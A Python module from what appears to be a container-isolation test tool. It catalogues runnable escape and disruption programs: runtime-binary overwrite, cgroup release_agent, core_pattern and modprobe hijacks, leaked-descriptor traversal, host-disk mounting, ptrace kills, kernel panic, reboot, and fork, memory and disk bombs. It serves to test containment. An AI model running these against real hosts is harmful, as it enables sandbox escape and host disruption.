"""The catalogue of `bz drill`: known ways out of a privileged container, each a small Python program that
takes it. They run inside, as root with every capability; `canary` says on the host whether one came out.

A program is given, as JSON in its last word: `host`, a directory of the host that no container is given, and
`token`, a file in it; `shared`, the path on the host of what it sees as /shared; `victim`, a word on the
command line of a process of the host. What it prints is only looked at for the file's content. Payloads leave
a file OWNED-... in the host's directory. Nothing here destroys what it reaches, but for what the host itself
would survive.
"""

from __future__ import annotations

from bufferzone.record import Record


class Attack(Record):
    """`source`: where it is known from. `code` follows `PRELUDE`. `entered`: `exec` of this program goes in
    once it has printed something. `again`: a second container is started after it, with a mount of its own at
    this place. `linked`: a second one is started after it, whose /proc is this link, with a sysctl to be set.
    `masked`: it begins with this link in place of /dev/null, and /proc/timer_list masked.
    """

    name: str
    source: str
    code: str
    entered: str = ""
    again: str = ""
    linked: str = ""
    masked: str = ""


#: what every program begins with: helpers that go on where something fails, since most of it does
PRELUDE = r"""
import ctypes, json, os, signal, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
arg = json.loads(sys.argv[-1])
end = time.monotonic() + 4
def say(*words):
    print(*words, flush=True)
def attempt(what, *words):
    try:
        return what(*words)
    except OSError as error:
        say(getattr(what, "__name__", "it"), error)
def write(path, text):
    with open(path, "w") as file:
        file.write(text)
def read(path, size=1 << 16):
    with open(path, "rb") as file:
        say(path, file.read(size))
def mount(source, target, kind, data=None):
    os.makedirs(target, exist_ok=True)
    if libc.mount(source.encode(), target.encode(), kind.encode(), 0, data and data.encode()):
        raise OSError(ctypes.get_errno(), "mount " + kind)
def payload(name):
    path = "/shared/" + name + ".sh"
    write(path, "#!/bin/sh\ncat /proc/self/status >" + arg["host"] + "/OWNED-" + name + "\n")
    os.chmod(path, 0o755)
    return arg["shared"] + "/" + name + ".sh"
def child(work):
    pid = os.fork()
    if pid == 0:
        try:
            work()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
def pids():
    return [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]
say("begun")
sys.stdin.read()  # its end: we were heard, and may end the machine
"""

ATTACKS = (
    Attack(
        name="runtime-binary",
        source="CVE-2019-5736: the runtime's program, by /proc/PID/exe of who enters",
        entered="/target",
        code=r"""
write("/target", "#!/proc/self/exe\n")
os.chmod("/target", 0o755)
say("ready")
while time.monotonic() < end:
    for pid in pids():
        try:
            name = os.readlink("/proc/" + pid + "/exe")
            if "python" in name and pid != "1" or not name:
                fd = os.open("/proc/" + pid + "/exe", os.O_RDONLY)
                own = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY)
                os.write(own, b"#!/bin/sh\n")
                say("written", name)
        except OSError:
            pass
""",
    ),
    Attack(
        name="release-agent",
        source="CVE-2022-0492: release_agent of a cgroup hierarchy",
        code=r"""
script = payload("release-agent")
for data in ("rdma", "memory", "pids", "none,name=drill"):
    try:
        mount("cgroup", "/tmp/cg", "cgroup", data)
        os.makedirs("/tmp/cg/drill", exist_ok=True)
        write("/tmp/cg/drill/notify_on_release", "1")
        write("/tmp/cg/release_agent", script)
        child(lambda: write("/tmp/cg/drill/cgroup.procs", str(os.getpid())))
        say("released", data)
    except OSError as error:
        say(data, error)
time.sleep(1)
""",
    ),
    Attack(
        name="core-pattern",
        source="core(5): a program that the kernel runs for a core dump",
        code=r"""
attempt(write, "/proc/sys/kernel/core_pattern", "|" + payload("core-pattern"))
import resource
resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)) if resource.getrlimit(resource.RLIMIT_CORE)[1] else None
child(lambda: os.kill(os.getpid(), signal.SIGSEGV))
time.sleep(1)
""",
    ),
    Attack(
        name="modprobe-path",
        source="kernel.modprobe: a program that the kernel runs for an unknown format",
        code=r"""
attempt(write, "/proc/sys/kernel/modprobe", payload("modprobe-path"))
write("/tmp/odd", "\u00ff\u00fe\u00fd\u00fc")
os.chmod("/tmp/odd", 0o755)
child(lambda: attempt(os.execv, "/tmp/odd", ["odd"]))
time.sleep(1)
""",
    ),
    Attack(
        name="uevent-helper",
        source="/sys/kernel/uevent_helper: a program that the kernel runs for a device",
        code=r"""
attempt(mount, "sysfs", "/tmp/sys", "sysfs")
attempt(write, "/tmp/sys/kernel/uevent_helper", payload("uevent-helper"))
attempt(write, "/tmp/sys/class/mem/null/uevent", "change")
time.sleep(1)
""",
    ),
    Attack(
        name="host-disk",
        source="a node of the host's disk, mounted",
        code=r"""
with open("/proc/partitions") as file:
    rows = [line.split() for line in file.readlines()[2:]]
for major, minor, _, name in rows:
    attempt(os.mknod, "/tmp/" + name, 0o60600, os.makedev(int(major), int(minor)))
    for kind in ("ext4", "xfs", "btrfs", "erofs"):
        try:
            mount("/tmp/" + name, "/tmp/disk", kind)
            read("/tmp/disk" + arg["token"])
        except OSError as error:
            say(name, kind, error)
""",
    ),
    Attack(
        name="host-root",
        source="/proc/PID/root and /proc/PID/cwd of processes outside",
        code=r"""
for pid in pids():
    for way in ("root", "cwd"):
        try:
            read("/proc/" + pid + "/" + way + arg["token"])
        except OSError:
            pass
""",
    ),
    Attack(
        name="leaked-descriptors",
        source="CVE-2024-21626: a descriptor of the host's that was left open, and ../../..",
        entered="/usr/bin/true",
        code=r"""
def look():
    for pid in [*pids(), "self"]:
        for where in ["cwd", *("fd/%d" % n for n in range(3, 64))]:
            for up in range(9):
                try:
                    read("/proc/" + pid + "/" + where + "/" + "../" * up + arg["token"].lstrip("/"))
                except OSError:
                    pass
while time.monotonic() < end:
    look()
""",
    ),
    Attack(
        name="ptrace",
        source="a process of the host: read its memory, stop it, kill it",
        code=r"""
for pid in pids():
    try:
        with open("/proc/" + pid + "/cmdline", "rb") as file:
            line = file.read()
        if arg["victim"].encode() in line and arg["token"].encode() not in line:
            say("found", pid, line)
            libc.ptrace(16, int(pid), 0, 0)
            os.kill(int(pid), signal.SIGKILL)
    except OSError as error:
        say(pid, error)
""",
    ),
    Attack(
        name="sysctl",
        source="/proc/sys: a setting of the host's kernel",
        code=r"""
attempt(mount, "proc", "/tmp/proc", "proc")
for root in ("/proc", "/tmp/proc"):
    attempt(write, root + "/sys/kernel/printk_ratelimit_burst", "4711")
    attempt(write, root + "/sys/kernel/domainname", "drilled")
""",
    ),
    Attack(
        name="kernel-panic",
        source="/proc/sysrq-trigger: c",
        code=r"""
attempt(write, "/proc/sys/kernel/sysrq", "1")
attempt(write, "/proc/sysrq-trigger", "c")
time.sleep(3)
""",
    ),
    Attack(
        name="reboot",
        source="reboot(2) and /proc/sysrq-trigger: b",
        code=r"""
attempt(write, "/proc/sysrq-trigger", "b")
libc.syscall(169, 0xfee1dead, 672274793, 0x1234567, 0)
time.sleep(3)
""",
    ),
    Attack(
        name="kernel-module",
        source="init_module(2), finit_module(2)",
        code=r"""
import glob
for path in glob.glob("/usr/lib/modules/*/kernel/**/dummy.ko*", recursive=True)[:4]:
    fd = os.open(path, os.O_RDONLY)
    compressed = 0 if path.endswith(".ko") else 4
    say(path, libc.syscall(313, fd, b"", compressed), os.strerror(ctypes.get_errno()))
junk = b"\x7fELF" + bytes(4096)
say("init_module", libc.syscall(175, junk, len(junk), b""), os.strerror(ctypes.get_errno()))
""",
    ),
    Attack(
        name="mask-link",
        source="CVE-2025-31133: a link in place of /dev/null while paths are masked",
        masked="/proc/sys/kernel/core_pattern",
        code=r"""
script = payload("mask-link")
for path in ("/proc/timer_list", "/proc/sys/kernel/core_pattern"):
    attempt(write, path, "|" + script)
child(lambda: os.kill(os.getpid(), signal.SIGSEGV))
time.sleep(1)
""",
    ),
    Attack(
        name="proc-link",
        source="CVE-2019-19921, CVE-2025-52881: a link in place of /proc, which the runtime writes through",
        linked="/shared/fake",
        code=r"""
for name in ("sys/net/ipv4/ip_forward", "self/attr/exec", "self/attr/apparmor/exec", "thread-self/attr/exec"):
    path = "/shared/fake/" + name
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink(arg["host"] + "/OWNED-proc-link", path)
""",
    ),
    Attack(
        name="planted-links",
        source="links in a shared volume, in place of what somebody on the host reads or writes there",
        code=r"""
for name, target in (("log", arg["token"]), ("data", arg["host"]), ("out", arg["host"] + "/OWNED-planted")):
    attempt(os.symlink, target, "/shared/planted-" + name)
    attempt(os.rename, "/shared/planted-" + name, "/shared/" + name)
attempt(os.link, arg["token"], "/shared/hard")
for name in ("log", "data/token", "hard"):
    attempt(read, "/shared/" + name)
attempt(write, "/shared/out", "x")
attempt(write, "/shared/data/OWNED-planted", "x")
""",
    ),
    Attack(
        name="volume-link",
        source="CVE-2021-30465: a link in a shared volume that the next container's mount goes through",
        again="/shared/out/made",
        code=r"""
attempt(os.symlink, arg["host"], "/shared/out")
attempt(read, "/shared/out/" + os.path.basename(arg["token"]))
attempt(write, "/shared/out/OWNED-volume-link", "x")
""",
    ),
    Attack(
        name="device-node",
        source="a node of a disk in a shared volume, for somebody on the host to open",
        code=r"""
for number, (kind, device) in enumerate(((0o60666, (8, 0)), (0o60666, (254, 0)), (0o20666, (1, 1)))):
    attempt(os.mknod, "/shared/node%d" % number, kind, os.makedev(*device))
    attempt(os.chmod, "/shared/node%d" % number, 0o666)
""",
    ),
    Attack(
        name="fork-bomb",
        source="processes without end",
        code=r"""
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
count = 0
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            time.sleep(max(0, end - time.monotonic()))
            os._exit(0)
        count += 1
    except OSError as error:
        say(count, error)
        break
say(count)
""",
    ),
    Attack(
        name="memory-bomb",
        source="memory without end",
        code=r"""
kept = []
while time.monotonic() < end:
    kept.append(b"\xa5" * (16 << 20))
    say(len(kept) * 16, "MiB")
""",
    ),
    Attack(
        name="disk-filler",
        source="a root file system that is filled",
        code=r"""
written = 0
try:
    with open("/full", "wb", buffering=0) as file:
        while time.monotonic() < end:
            written += file.write(bytes(1 << 20))
except OSError as error:
    say(written, error)
""",
    ),
    Attack(
        name="clock",
        source="settimeofday(2), adjtimex(2)",
        code=r"""
now = struct.pack("qq", int(time.time()) + 86400, 0)
say(libc.settimeofday(now, None), os.strerror(ctypes.get_errno()), time.time())
""",
    ),
)
NAMES = tuple(attack.name for attack in ATTACKS)
